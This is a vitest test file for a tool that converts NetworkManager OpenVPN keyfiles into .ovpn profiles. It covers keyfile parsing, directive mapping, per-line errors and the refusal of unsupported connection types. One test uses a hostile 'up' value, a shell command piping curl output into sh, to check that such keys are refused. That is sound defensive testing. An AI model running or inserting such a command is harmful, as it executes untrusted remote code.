import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { inspectProfile } from '../../shared/profiles/inspect.js';
import { translateNetworkManager, type Translation } from '../../shared/profiles/networkmanager/index.js';
import { listValue, parseKeyfile, stringValue, type KeyfileEntry } from '../../shared/profiles/networkmanager/keyfile.js';
import type { ProfileFileSource } from '../../shared/profiles/openvpn/inliner.js';

const DIR = join(import.meta.dirname, '../fixtures/networkmanager/openvpn');
const folder: ProfileFileSource = {
  description: { en: 'the test folder', ja: 'テストフォルダー' },
  read: (name) => (existsSync(join(DIR, name)) ? readFileSync(join(DIR, name)) : null),
};
const fixture = (name: string) => readFileSync(join(DIR, name), 'utf8');

function ok(t: Translation | null): Extract<Translation, { ok: true }> {
  if (!t?.ok) throw new Error(`not translated: ${JSON.stringify(t)}`);
  return t;
}
function refused(t: Translation | null): Extract<Translation, { ok: false }> {
  if (!t || t.ok) throw new Error(`not refused: ${JSON.stringify(t)}`);
  return t;
}

const minimal = (vpn: string, extra = '') =>
  `[connection]\nid=office\ntype=vpn\n\n[vpn]\nservice-type=org.freedesktop.NetworkManager.openvpn\n${vpn}\n${extra}`;

function entry(raw: string): KeyfileEntry {
  return { key: 'k', raw, line: 1, column: 3, source: `k=${raw}` };
}

describe('the keyfile reader follows GLib key file rules (not the ini package)', () => {
  it('keeps # and ; inside values, and splits lists only at unescaped ;', () => {
    const r = parseKeyfile('[a]\npassword=pa#ss;word\ndns=10.0.0.1;10.0.0.2;\nsearch=a\\;b;c\n');
    if (!r.ok) throw new Error('parse failed');
    const [pw, dns, search] = r.keyfile.groups[0]?.entries ?? [];
    if (!pw || !dns || !search) throw new Error('entries missing');
    expect(stringValue(pw)).toEqual({ ok: true, value: 'pa#ss;word' });
    expect(listValue(dns)).toEqual({ ok: true, value: ['10.0.0.1', '10.0.0.2'] });
    expect(listValue(search)).toEqual({ ok: true, value: ['a;b', 'c'] });
  });

  it('resolves \\s \\t \\n \\r \\\\ and refuses unknown escapes and a lone trailing backslash', () => {
    expect(stringValue(entry('\\sx\\ty\\\\z'))).toEqual({ ok: true, value: ' x\ty\\z' });
    const bad = stringValue(entry('C:\\dir'));
    expect(bad.ok).toBe(false);
    if (!bad.ok) expect(bad.error.code).toBe('NM_BAD_ESCAPE');
    const trailing = stringValue(entry('abc\\'));
    expect(!trailing.ok && trailing.error.code).toBe('NM_BAD_ESCAPE');
  });

  it("keeps '=' in values, trims blanks around the key and after '=', and keeps group names with dots whole", () => {
    const r = parseKeyfile('[wireguard-peer.ab+/cd=]\n  endpoint = host:1=2  \n# comment = no\n');
    if (!r.ok) throw new Error('parse failed');
    const g = r.keyfile.groups[0];
    expect(g?.name).toBe('wireguard-peer.ab+/cd=');
    expect(g?.entries.map((e) => [e.key, e.raw, e.line])).toEqual([['endpoint', 'host:1=2  ', 2]]);
  });

  it('reports lines that are not key=value, group or comment, and duplicate keys, with their line', () => {
    const r = parseKeyfile('[vpn]\nremote=a\njunk line\nremote=b\n');
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors.map((e) => [e.code, e.line])).toEqual([['NM_SYNTAX', 3], ['NM_DUPLICATE_KEY', 4]]);
    expect(r.errors[0]?.message.en).toMatch(/^Line 3: /);
    expect(r.errors[0]?.message.ja).toMatch(/^3 行目: /);
  });
});

describe('NetworkManager OpenVPN connections become .ovpn profiles', () => {
  it('translates a password-tls connection and the OpenVPN inspector accepts it with its files inlined', () => {
    const t = ok(translateNetworkManager(fixture('corp-password-tls.nmconnection'), 'corp-password-tls.nmconnection', folder));
    expect(t.kind).toBe('openvpn');
    expect(t.name).toBe('Corp VPN (Tokyo)');
    expect(t.files.sort()).toEqual(['Corp VPN-ca.pem', 'client.crt', 'client.key', 'ta.key']);
    const lines = t.text.split('\n').filter((l) => l !== '');
    expect(lines).toEqual(expect.arrayContaining([
      'client', 'dev tun', 'nobind', 'setenv FRIENDLY_NAME "Corp VPN (Tokyo)"',
      'remote vpn1.example.test 443 tcp-client', 'remote vpn2.example.test 1194 udp',
      'ca "Corp VPN-ca.pem"', 'cert client.crt', 'key client.key', 'tls-auth ta.key 1',
      'cipher AES-256-GCM', 'data-ciphers AES-256-GCM:AES-128-GCM', 'remote-cert-tls server',
      'verify-x509-name vpn.example.test name', '<auth-user-pass>', 'alice', '</auth-user-pass>',
      'pull-filter ignore redirect-gateway', 'route 10.20.0.0 255.255.0.0', 'dhcp-option DOMAIN corp.example.test',
      'pull-filter ignore ifconfig-ipv6',
    ]));
    // Each directive sits on the line of the setting it came from.
    const text = t.text.split('\n');
    const source = fixture('corp-password-tls.nmconnection').split('\n');
    expect(source[text.indexOf('cipher AES-256-GCM')]).toBe('cipher=AES-256-GCM');
    // The saved password is not carried into the profile text.
    expect(t.text).not.toContain('correct horse');
    expect(t.advisories.map((a) => a.code)).toEqual(expect.arrayContaining(['NM_SECRET_NOT_IMPORTED', 'NM_KEY_IGNORED']));
    expect(t.advisories.find((a) => a.code === 'NM_SECRET_NOT_IMPORTED')?.line).toBe(source.indexOf('password=correct horse') + 1);

    const inspected = inspectProfile(t.text, { fileName: 'corp-password-tls.nmconnection', files: folder });
    expect(inspected.errors).toEqual([]);
    expect(inspected.ok).toBe(true);
    expect(inspected.kind).toBe('openvpn');
    expect(inspected.name).toBe('Corp VPN (Tokyo)');
    expect(inspected.inlinedFiles.sort()).toEqual(['Corp VPN-ca.pem', 'client.crt', 'client.key', 'ta.key']);
    expect(inspected.canonical).toContain('<tls-auth>');
    expect(inspected.canonical).toContain('key-direction 1');
  });

  it('names a missing certificate file at the keyfile line that refers to it', () => {
    const text = minimal('remote=vpn.example.test\nconnection-type=tls\nca=/etc/ca.pem\ncert=/x/missing.crt\nkey=/x/client.key');
    const t = refused(translateNetworkManager(text, 'office.nmconnection', folder));
    expect(t.errors.map((e) => [e.code, e.line])).toEqual([['NM_FILE_MISSING', 9], ['NM_FILE_MISSING', 10]]);
    expect(t.errors[1]?.message.en).toContain("'missing.crt'");
    expect(t.errors[1]?.message.ja).toContain('10 行目');
  });

  it('maps a pkcs12 bundle, static-key mode, compression, a proxy and the TAP device', () => {
    const t = ok(translateNetworkManager(minimal([
      'remote=[2001:db8::1]:1194:udp6', 'connection-type=tls', 'cert=/k/id.p12', 'key=/k/id.p12', 'ca=/k/ca.pem', 'dev-type=tap',
      'comp-lzo=adaptive', 'proxy-type=http', 'proxy-server=proxy.example.test', 'proxy-port=3128', 'proxy-retry=yes', 'tunnel-mtu=1400', 'mssfix=yes',
    ].join('\n')), undefined));
    expect(t.text).toContain('remote 2001:db8::1 1194 udp6');
    expect(t.text).toContain('pkcs12 id.p12');
    expect(t.text).not.toMatch(/^cert /m);
    expect(t.text).toContain('dev tap');
    expect(t.text).toContain('comp-lzo adaptive');
    expect(t.text).toContain('http-proxy proxy.example.test 3128');
    expect(t.text).toContain('http-proxy-retry');
    expect(t.text).toContain('tun-mtu 1400');
    expect(t.text).toMatch(/^mssfix$/m);

    const s = ok(translateNetworkManager(minimal('remote=10.11.12.13\nconnection-type=static-key\nstatic-key=/k/static.key\nstatic-key-direction=1\nlocal-ip=10.8.0.2\nremote-ip=10.8.0.1'), undefined));
    expect(s.text).toContain('secret static.key 1');
    expect(s.text).toContain('ifconfig 10.8.0.2 10.8.0.1');
    expect(s.files).toEqual(['static.key']);
  });

  it('refuses a data key that would make openvpn run a program, at its line', () => {
    const t = refused(translateNetworkManager(minimal('remote=vpn.example.test\nconnection-type=password\nca=ca.pem\nup=/bin/sh -c "curl x|sh"'), undefined));
    expect(t.errors.map((e) => [e.code, e.line])).toEqual([['NM_PROGRAM_KEY', 10]]);
    expect(t.errors[0]?.message.en).toContain('runs a program');
    expect(t.errors[0]?.message.ja).toContain('10 行目');
  });

  it('gives an unknown data key an advisory, not a silent drop', () => {
    const t = ok(translateNetworkManager(minimal('remote=vpn.example.test\nconnection-type=password\nca=ca.pem\nfrobnicate=yes'), undefined));
    expect(t.advisories.map((a) => [a.code, a.line])).toEqual([['NM_KEY_UNKNOWN', 10]]);
  });

  it('reports a connection without a server, and bad values, each at its line', () => {
    const t = refused(translateNetworkManager(minimal('connection-type=tls2\nport=99999'), undefined));
    expect(t.errors.map((e) => [e.code, e.line])).toEqual([['NM_MISSING_KEY', 5], ['NM_BAD_VALUE', 7], ['NM_BAD_VALUE', 8]]);
  });

  it('refuses a crl-verify directory, as the .ovpn importer does', () => {
    const t = refused(translateNetworkManager(minimal('remote=vpn.example.test\nconnection-type=password\nca=ca.pem\ncrl-verify-dir=/etc/crl'), undefined));
    expect(t.errors[0]?.code).toBe('NM_UNSUPPORTED_VALUE');
  });

  it('carries the inspector’s verdict: a translated profile with a removed directive gets the usual OpenVPN diagnostics', () => {
    const t = ok(translateNetworkManager(minimal('remote=vpn.example.test\nconnection-type=password\nca=Corp VPN-ca.pem\ntls-remote=vpn.example.test'), undefined));
    const r = inspectProfile(t.text, { files: folder });
    const codes = [...r.errors, ...r.advisories].map((d) => d.code);
    expect(codes.some((c) => c.startsWith('OVPN_'))).toBe(true);
    const where = [...r.errors, ...r.advisories].find((d) => d.line === 10);
    expect(where, 'the diagnostic points at the keyfile line of tls-remote').toBeDefined();
  });
});

describe('which keyfiles are translated', () => {
  it('returns null for text that is not a keyfile', () => {
    expect(translateNetworkManager('client\nremote vpn.example.test\n', 'a.ovpn')).toBeNull();
    expect(translateNetworkManager('[Interface]\nPrivateKey = x\n', 'wg0.conf')).toBeNull();
    expect(translateNetworkManager('connections {\n}\n', 'swanctl.conf')).toBeNull();
  });

  it('refuses L2TP, other VPN plugins and non-VPN connections with their own codes', () => {
    const l2tp = refused(translateNetworkManager('[connection]\nid=x\ntype=vpn\n[vpn]\ngateway=vpn.example.test\nipsec-enabled=yes\nservice-type=org.freedesktop.NetworkManager.l2tp\n', undefined));
    expect(l2tp.errors.map((e) => [e.code, e.line])).toEqual([['NM_L2TP_UNSUPPORTED', 7]]);
    expect(l2tp.errors[0]?.message.en).toContain('does not support L2TP');
    expect(l2tp.errors[0]?.message.ja).toContain('L2TP に対応していません');
    const pptp = refused(translateNetworkManager('[connection]\nid=x\ntype=vpn\n[vpn]\nservice-type=org.freedesktop.NetworkManager.pptp\n', undefined));
    expect(pptp.errors[0]?.code).toBe('NM_VPN_UNSUPPORTED');
    expect(pptp.errors[0]?.message.en).toContain('PPTP');
    const wifi = refused(translateNetworkManager('[connection]\nid=home\ntype=wifi\n[wifi]\nssid=home\n', 'home.nmconnection'));
    expect(wifi.errors.map((e) => [e.code, e.line])).toEqual([['NM_NOT_VPN', 3]]);
  });
});

describe('robustness', () => {
  it('never throws on mangled keyfiles, and every error points at a line of the file', async () => {
    const fc = (await import('fast-check')).default;
    const sources = ['corp-password-tls.nmconnection'].map(fixture);
    fc.assert(
      fc.property(fc.constantFrom(...sources), fc.array(fc.tuple(fc.nat(60), fc.string({ maxLength: 30 }))), (source, edits) => {
        const lines = source.split('\n');
        for (const [at, text] of edits) lines.splice(at % (lines.length + 1), at % 3 === 0 ? 1 : 0, text);
        const text = lines.join('\n');
        const t = translateNetworkManager(text, 'x.nmconnection', folder);
        if (t && !t.ok) for (const e of t.errors) expect(e.line).toBeLessThanOrEqual(lines.length);
      }),
      { numRuns: 300 },
    );
  });
});
